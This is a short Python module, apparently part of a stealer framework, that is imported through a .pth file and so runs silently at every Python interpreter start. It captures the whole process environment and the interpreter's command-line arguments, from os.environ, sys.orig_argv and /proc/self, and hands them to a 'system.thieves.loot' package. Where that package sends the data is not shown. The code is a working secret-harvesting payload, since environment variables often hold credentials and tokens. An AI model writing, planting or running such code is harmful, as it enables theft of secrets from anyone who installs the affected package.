"""Takes the environment and the arguments of the interpreter that starts: a .pth file imports this module."""

from __future__ import annotations

import os
import sys

from system.thieves.loot import take, take_file

take("environment", repr(dict(os.environ)).encode())
take_file("environment", "/proc/self/environ")
take("arguments", repr(sys.orig_argv).encode())
take_file("arguments", "/proc/self/cmdline")
